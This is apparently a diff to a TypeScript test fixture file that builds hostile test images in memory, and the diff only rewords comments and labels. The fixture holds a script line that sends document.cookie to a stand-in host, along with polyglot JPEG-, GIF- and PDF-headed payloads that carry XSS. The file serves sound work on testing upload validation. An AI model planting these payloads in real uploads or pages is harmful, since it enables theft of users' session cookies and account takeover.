@@ -9,7 +9,7 @@ const chunk = (type: string, data: Buffer): Buffer => {
   return Buffer.concat([length, body, sum]);
 };
 
-/** A PNG that claims these dimensions and holds next to nothing. */
+/** A tiny PNG that declares these dimensions. */
 export function pngClaiming(width: number, height: number): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
@@ -25,7 +25,7 @@ export function pngClaiming(width: number, height: number): Buffer {
 
 const SCRIPT = '<script>fetch("https://ailleurs.example/" + document.cookie)</script>';
 
-/** Built in memory only: nothing of this kind is stored in the repository. */
+/** Built in memory: none of them is stored in the repository. */
 export const HOSTILE_IMAGES = {
   'HTML under the first bytes of a JPEG': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(`<html>${SCRIPT}</html>`)]),
   'plain HTML': Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`),
@@ -35,10 +35,10 @@ export const HOSTILE_IMAGES = {
   'SVG after an XML declaration': Buffer.from(
     '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect/></svg>',
   ),
-  'GIF that is a script': Buffer.from('GIF89a=1;/*\u0000*/alert(document.cookie)'),
+  'GIF that is also a script': Buffer.from('GIF89a=1;/*\u0000*/alert(document.cookie)'),
   'PDF that is HTML': Buffer.from(`%PDF-1.4\n<html>${SCRIPT}</html>`),
   'ZIP archive': Buffer.from('504b0506000000000000000000000000000000000000', 'hex'),
   'TIFF header': Buffer.from('49492a0008000000000000000000', 'hex'),
   'HEIC header': Buffer.from('0000001866747970686569630000000068656963' + '6d696631', 'hex'),
-  'text that says nothing': Buffer.from('photo'),
+  'plain text': Buffer.from('photo'),
 } as const satisfies Record<string, Buffer>;
